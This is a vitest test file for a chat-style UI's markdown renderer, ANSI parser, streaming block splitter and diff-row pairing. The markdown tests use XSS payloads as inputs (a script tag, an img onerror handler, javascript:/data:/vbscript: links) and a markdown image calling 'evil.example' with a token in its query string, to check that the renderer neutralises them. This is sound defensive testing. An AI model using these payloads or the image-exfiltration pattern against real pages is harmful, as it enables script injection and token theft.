import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/markdown';
import { parseAnsi } from '../src/ansi';

describe('markdown is inert', () => {
  it('shows raw HTML as text', () => {
    const html = renderMarkdown('hi <script>alert(1)</script> <img src=x onerror=alert(1)>');
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;');
  });
  it('links only http(s) and mailto, opened safely', () => {
    const html = renderMarkdown('[a](javascript:alert(1)) [b](https://example.com) [c](mailto:x@y.z) [d](data:text/html,x) [e](vbscript:x)');
    expect(html).not.toMatch(/href="(javascript|data|vbscript):/);
    expect(html).toContain('<a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">b</a>');
    expect(html).toContain('href="mailto:x@y.z"');
  });
  it('never loads an image: a remote one becomes a link', () => {
    const html = renderMarkdown('![secret](https://evil.example/?q=token) ![x](data:image/png;base64,AAAA)');
    expect(html).not.toContain('<img');
    expect(html).toContain('<a class="md-image" href="https://evil.example/?q=token"');
    expect(html).toContain('![x](data:image/png;base64,AAAA)'); // left as text
  });
});

describe('ansi', () => {
  it('colours and resets', () => {
    expect(parseAnsi('a\u001b[31mred\u001b[0m b')).toEqual([
      { text: 'a' },
      { text: 'red', fg: 'var(--ansi-red)' },
      { text: ' b' },
    ]);
  });
  it('drops other sequences and collapses carriage returns', () => {
    expect(parseAnsi('\u001b[2K10%\r50%\r100%\ndone')).toEqual([{ text: '100%\ndone' }]);
    expect(parseAnsi('\u001b[1;38;5;196mX')).toEqual([{ text: 'X', bold: true, fg: 'rgb(255,0,0)' }]);
  });
});

import { splitBlocks } from '../src/items';
describe('splitting a streaming message', () => {
  it('splits at blank lines, never inside a code fence', () => {
    expect(splitBlocks('a\nb\n\nc')).toEqual(['a\nb\n', 'c']);
    expect(splitBlocks('```\nx\n\ny\n```\n\nz')).toEqual(['```\nx\n\ny\n```\n', 'z']);
    expect(splitBlocks('one')).toEqual(['one']);
  });
});

import { splitRows } from '../src/items';
describe('side-by-side diff rows', () => {
  it('pairs removals with the additions that replace them', () => {
    expect(splitRows([' a', '-b', '-c', '+B', ' d', '+e'])).toEqual([
      [' a', ' a'],
      ['-b', '+B'],
      ['-c', null],
      [' d', ' d'],
      [null, '+e'],
    ]);
  });
});
